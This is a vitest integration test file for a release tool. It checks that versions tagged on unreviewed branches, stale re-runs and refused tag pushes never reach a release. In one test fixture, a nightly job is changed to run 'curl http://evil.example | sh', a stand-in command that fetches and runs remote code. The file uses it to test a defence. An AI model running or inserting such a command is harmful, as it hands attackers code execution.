import { execFile } from 'node:child_process'
import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { buildPackages } from '../../src/commands/build.js'
import { pushEvent, rerun as rerunRuns } from './event-helpers.js'
import { OWNER, PromotionHub, ledgerFields, task, tokenOf } from './promotion-harness.js'

// Where released versions come from: only from the default branch, at its tip, with their bundle attached before
// the release is published. The action from its sources against the local GitHub.
let hub: PromotionHub
beforeAll(async () => {
  hub = await PromotionHub.start()
})
afterAll(async () => {
  await hub?.stop()
})

const run = promisify(execFile)
const gitIn = async (cwd: string, ...args: string[]): Promise<string> =>
  (await run('git', ['-c', 'user.name=Alice', '-c', 'user.email=alice@example.com', ...args], { cwd, encoding: 'utf8' })).stdout.trim()

describe('tags from anywhere', () => {
  it('a version tagged on an unreviewed branch is neither applied to dev nor proposed to qa', async () => {
    const repo = await hub.repository(['jobs'])
    const proposed = repo.openPromotion('qa', 'jobs').number
    // alice (write access) builds jobs@1.1 on a branch nobody reviewed and pushes the branch and the tag.
    const work = await repo.clone('main', tokenOf('alice'))
    await gitIn(work, 'checkout', '--quiet', '-b', 'unreviewed')
    await writeFile(join(work, 'definitions/task/nightly.yaml'), task('nightly', 'curl http://evil.example | sh', 'jobs-db'))
    await gitIn(work, 'commit', '--quiet', '-am', 'Quietly change the nightly job')
    const built = await buildPackages({ repo: work, packages: ['jobs'], all: false, debug: false })
    expect(built.artifacts.map((a) => a.tag)).toEqual(['jobs@1.1'])
    await gitIn(work, 'push', '--quiet', 'origin', 'unreviewed', 'refs/tags/jobs@1.1')
    expect(await repo.tags()).toEqual(['jobs@1', 'jobs@1.1'])

    // The schedule, then a manual run asking for it by name: neither takes jobs@1.1.
    await repo.reconcile()
    const asked = await repo.dispatch({ package: 'jobs', version: '1.1', environment: 'dev' }, { expectSuccess: false })
    expect(asked.code).not.toBe(0)
    expect(asked.stdout).toContain('jobs@1.1 is not released')
    expect(ledgerFields(await repo.ledger('dev', 'jobs')).version).toBe('1')
    expect(repo.openPromotion('qa', 'jobs').number).toBe(proposed)
    expect(repo.marker(proposed).version).toBe('1')
    expect(hub.github.violations).toEqual([])
  })
})

describe('re-running an old release run', () => {
  it('does not tag the older content of its checkout as the newest version', async () => {
    const repo = await hub.repository(['jobs'])
    const old = (await repo.head('main'))!
    await repo.change({ 'definitions/task/nightly.yaml': task('nightly', 'run-nightly --v2', 'jobs-db') }, 'Nightly v2')
    expect(await repo.tags()).toEqual(['jobs@1', 'jobs@1.1'])
    expect(ledgerFields(await repo.ledger('dev', 'jobs')).version).toBe('1.1')

    // The release run of the first push, re-run (GitHub's "Re-run all jobs"): actions/checkout checks out its
    // commit, not main's tip.
    const rerun = await rerunRuns(repo, pushEvent(repo, 'refs/heads/main', old))
    expect(await repo.tags()).toEqual(['jobs@1', 'jobs@1.1'])
    expect(ledgerFields(await repo.ledger('dev', 'jobs')).version).toBe('1.1')
    expect(`${rerun.stdout}${rerun.stderr}`).toContain('releases are made only from the tip of main')
    expect(hub.github.violations).toEqual([])
  })
})

describe('immutable releases', () => {
  it('get their bundle: the release is created as a draft, the bundle uploaded, then published', async () => {
    const repo = await hub.repository(['jobs'])
    hub.github.setImmutableReleases(OWNER, repo.name, true)
    await repo.change({ 'definitions/task/nightly.yaml': task('nightly', 'run-nightly --v2', 'jobs-db') }, 'Nightly v2')
    const release = repo.state().releases.filter((r) => r.tagName === 'jobs@1.1')
    expect(release).toHaveLength(1)
    expect(release[0]).toMatchObject({ draft: false, immutable: true })
    expect(repo.state().assets.filter((a) => a.releaseId === release[0]!.id).map((a) => a.name)).toHaveLength(1)
    // And the version carried on: applied to dev from that bundle.
    expect(ledgerFields(await repo.ledger('dev', 'jobs')).version).toBe('1.1')
    expect(hub.github.violations).toEqual([])
  })
})

describe('a tag push GitHub refuses', () => {
  it('fails the run with GitHub’s reason and the fix, not as a tag that exists with another bundle', async () => {
    const repo = await hub.repository(['jobs'])
    // A tag ruleset on versions that does not let Gantry's identity through: GitHub answers GH013 per ref.
    hub.github.addRuleset(OWNER, repo.name, { name: 'versions', target: 'tag', include: ['*@*'], bypass: [], restrictCreations: true })
    const mark = repo.runner.mark()
    await hub.github.commitFiles(OWNER, repo.name, { branch: 'main', files: { 'definitions/task/nightly.yaml': task('nightly', 'run-nightly --v2', 'jobs-db') }, message: 'Nightly v2', author: 'alice' })
    const refused = await repo.drive(repo.runner.since(mark), 'push to main', false)
    const output = `${refused.stdout}${refused.stderr}`
    expect(refused.code).not.toBe(0)
    expect(output).toContain('GitHub refused to create the tag')
    expect(output).toContain('jobs@1.1: [remote rejected]')
    expect(output).toContain('GH013')
    expect(output).toContain('bypass actor of the tag ruleset')
    expect(output).not.toContain('another bundle')
    expect(await repo.tags()).toEqual(['jobs@1'])
  })
})
